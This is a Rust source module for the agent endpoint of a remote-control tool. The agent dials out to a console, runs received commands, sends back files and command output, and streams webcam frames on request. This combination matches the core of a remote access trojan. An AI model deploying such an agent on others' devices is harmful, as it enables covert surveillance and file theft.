//! Agent-role session endpoint.
//!
//! Connects out to the console (bounded retries), then drives the command
//! loop: one bounded read per command, dispatch through the capability
//! executor, reply on the same connection. The `webcam` command blocks this
//! loop for the stream's duration; there is only one outstanding command at
//! a time, so nothing else can be in flight anyway.

use std::io::Cursor;

use anyhow::{Context, Result};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;
use tracing::{info, warn};

use crate::capability::executor::{Executor, Reply};
use crate::command::Command;
use crate::config::Config;
use crate::errors::TransportError;
use crate::reconnect::ReconnectPolicy;
use crate::stream;
use crate::transport::send_sentinel_terminated;

/// Maximum size of one received command. A command is a single read, not a
/// sentinel-accumulated payload: delivery is synchronous and one-shot.
const COMMAND_READ_BYTES: usize = 2048;

/// Per-endpoint session lifecycle.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SessionState {
    Disconnected,
    Connecting,
    Connected,
    /// A command has been received and its result is being produced.
    AwaitingResult,
    /// Sink state: no further traffic on this connection.
    Terminated,
}

/// The agent endpoint: owns the command connection and the executor.
pub struct Agent {
    config: Config,
    executor: Executor,
    state: SessionState,
}

impl Agent {
    pub fn new(config: Config, executor: Executor) -> Self {
        Self {
            config,
            executor,
            state: SessionState::Disconnected,
        }
    }

    /// Current lifecycle state.
    pub const fn state(&self) -> SessionState {
        self.state
    }

    /// Connect (with the retry policy) and serve commands until terminated.
    /// A lost or failed connection tears the session down and goes back
    /// through the policy; exhausting the policy's attempts is fatal.
    pub async fn run(&mut self) -> Result<()> {
        let addr = self.config.command_addr(&self.config.connect_host);
        let policy = ReconnectPolicy::from(&self.config.reconnect);

        loop {
            self.state = SessionState::Connecting;
            let mut conn = policy
                .establish(|| {
                    let addr = addr.clone();
                    async move { TcpStream::connect(addr).await }
                })
                .await
                .with_context(|| format!("Failed to connect to {addr} after retries"))?;

            self.state = SessionState::Connected;
            info!(addr = %addr, "Agent connected");

            let outcome = self.command_loop(&mut conn).await;

            // Owner releases the connection on every path, including errors
            let _ = conn.shutdown().await;
            drop(conn);

            match outcome {
                Ok(()) if self.state == SessionState::Terminated => {
                    info!("Agent session ended");
                    return Ok(());
                }
                Ok(()) => {
                    warn!("Connection lost, reconnecting");
                }
                Err(e) => {
                    self.state = SessionState::Disconnected;
                    warn!(error = %e, "Command connection failed, reconnecting");
                }
            }
        }
    }

    /// Strict request/response alternation: read one command, reply, repeat.
    /// An empty read means the connection was lost.
    pub async fn command_loop<C>(&mut self, conn: &mut C) -> Result<(), TransportError>
    where
        C: AsyncRead + AsyncWrite + Unpin,
    {
        let mut buf = [0u8; COMMAND_READ_BYTES];

        loop {
            let n = conn.read(&mut buf).await?;
            if n == 0 {
                info!("Connection lost");
                self.state = SessionState::Disconnected;
                return Ok(());
            }

            let line = String::from_utf8_lossy(&buf[..n]);
            let command = Command::parse(&line);
            self.state = SessionState::AwaitingResult;

            match self.executor.dispatch(&command).await {
                Reply::None => {}
                Reply::Terminate => {
                    info!("Termination command received");
                    self.state = SessionState::Terminated;
                    return Ok(());
                }
                Reply::Text(text) => {
                    self.send_payload(conn, text.into_bytes()).await?;
                }
                Reply::Payload(bytes) => {
                    self.send_payload(conn, bytes).await?;
                }
                Reply::File(path) => match tokio::fs::File::open(&path).await {
                    Ok(mut file) => {
                        let sent = send_sentinel_terminated(
                            conn,
                            &mut file,
                            self.config.buffer_size,
                        )
                        .await?;
                        info!(path = %path.display(), bytes = sent, "File sent");
                    }
                    Err(e) => {
                        warn!(path = %path.display(), error = %e, "File transfer error");
                        self.send_payload(conn, b"ERROR: Transfer failed".to_vec())
                            .await?;
                    }
                },
                Reply::OpenStream => self.run_stream().await,
            }

            self.state = SessionState::Connected;
        }
    }

    async fn send_payload<C>(&self, conn: &mut C, bytes: Vec<u8>) -> Result<(), TransportError>
    where
        C: AsyncRead + AsyncWrite + Unpin,
    {
        let mut cursor = Cursor::new(bytes);
        send_sentinel_terminated(conn, &mut cursor, self.config.buffer_size).await?;
        Ok(())
    }

    /// `webcam`: open the stream channel on its own connection and push
    /// frames until the consumer terminates. Nothing goes back on the
    /// command channel; failures here never tear down the session.
    ///
    /// The connection is dialed before the camera is opened: the consumer
    /// is already blocked in accept, and a camera failure must still reach
    /// it as a clean close rather than leave it waiting forever.
    async fn run_stream(&mut self) {
        let addr = self.config.stream_addr(&self.config.connect_host);
        let mut conn = match TcpStream::connect(&addr).await {
            Ok(conn) => conn,
            Err(e) => {
                warn!(addr = %addr, error = %e, "Failed to open stream channel");
                return;
            }
        };

        match self.executor.open_camera().await {
            Ok(mut source) => {
                stream::produce(&mut conn, source.as_mut(), self.config.max_frame_bytes).await;
                // Dropping the source releases the capture device
                drop(source);
            }
            Err(e) => {
                warn!(error = %e, "Failed to open camera for streaming");
            }
        }
        let _ = conn.shutdown().await;
    }
}
